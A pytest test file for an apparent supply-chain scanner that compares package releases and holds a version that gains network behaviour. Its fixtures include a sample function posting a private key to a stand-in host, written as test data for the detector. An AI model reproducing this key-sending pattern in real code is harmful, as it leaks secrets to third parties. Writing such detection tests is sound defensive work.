"""What a release gained: beside the earlier one that was looked into here, else a wheel beside its own source distribution."""

import pytest

from pratique.facts.questions.release_diff import RELEASE_DIFF, ReleaseDiff
from pratique.flow.gate.admit import Admission, admit
from pratique.flow.requester import FileRequest, Requester
from pratique.flow.scanning.release import look_into_release
from pratique.flow.world import World
from pratique.model.artifact import ProjectName, VersionText
from pratique.model.decision import Verdict
from pratique.model.scope import Actor, ActorKind, Scope, ScopeName
from pratique.policy.pattern import read_file
from pratique.simulators.upstream import SimulatedIndex
from pratique.simulators.wheels import sdist, wheel
from tests.conftest import DAY, NOW

ASKS = {"asklook/__init__.py": "import requests\n\nrequests.get('https://index.example/ask')\n"}
PLAIN = {"asklook/__init__.py": "A = 1\n"}
SENDS = {
    "asklook/__init__.py": "A = 1\n",
    "asklook/keys.py": "import requests\n\n\ndef signed(private_key):\n"
    "    requests.post('https://index.example/sign', data=private_key)\n",
}


@pytest.fixture
def index(index: SimulatedIndex) -> SimulatedIndex:
    index.add("asklook", sdist("asklook", "1.0", PLAIN), NOW - 400 * DAY)
    index.add("asklook", wheel("asklook", "1.0", ASKS), NOW - 400 * DAY)
    index.add("asklook", wheel("asklook", "1.1", PLAIN), NOW - 300 * DAY)
    index.add("asklook", wheel("asklook", "1.2", SENDS), NOW - 200 * DAY)
    return index


async def ask(world: World, filename: str) -> Admission:
    known = await world.pages.find(ProjectName("asklook"))
    requester = Requester(Scope(ScopeName("workstation")), Actor(ActorKind.HUMAN, "ann"))
    return await admit(world, FileRequest(requester, "public", known.entries[filename].path))


async def gained(world: World, filename: str) -> object:
    return RELEASE_DIFF.of((await ask(world, filename)).judged.evidence)


async def look(world: World, purl: str) -> None:
    assert [each async for each in look_into_release(world, read_file(purl))]


async def test_a_release_is_compared_with_the_one_before_it(world: World) -> None:
    await look(world, "pkg:pypi/asklook@1.1")
    found = await ask(world, "asklook-1.2-py3-none-any.whl")
    assert RELEASE_DIFF.of(found.judged.evidence) == ReleaseDiff(
        VersionText("1.1"),
        ("net.send when called", "read.key_argument into the network when called"),
    )
    assert found.judged.decision.verdict is Verdict.HOLD
    (reason,) = (each for each in found.judged.decision.reasons if each.condition == "release-diff")
    assert "since 1.1 it gained read.key_argument into the network when called" in reason.why


async def test_a_wheel_without_an_earlier_one_is_compared_with_its_source(world: World) -> None:
    assert await gained(world, "asklook-1.0-py3-none-any.whl") == RELEASE_DIFF.unanswered
    await look(world, "pkg:pypi/asklook@1.0?file_name=asklook-1.0.tar.gz")
    found = await gained(world, "asklook-1.0-py3-none-any.whl")
    assert isinstance(found, ReleaseDiff)
    assert (found.baseline, found.gained) == ("asklook-1.0.tar.gz", ("net.http on import",))


async def test_a_source_distribution_is_not_compared_with_its_wheel(world: World) -> None:
    await look(world, "pkg:pypi/asklook@1.0?file_name=asklook-1.0-py3-none-any.whl")
    assert await gained(world, "asklook-1.0.tar.gz") == RELEASE_DIFF.unanswered


async def test_an_earlier_release_counts_before_the_source(world: World) -> None:
    await look(world, "pkg:pypi/asklook@1.1")
    await look(world, "pkg:pypi/asklook@1.0")
    found = await gained(world, "asklook-1.1-py3-none-any.whl")
    assert isinstance(found, ReleaseDiff)
    assert (found.baseline, found.gained, found.lost_count) == ("1.0", (), 1)
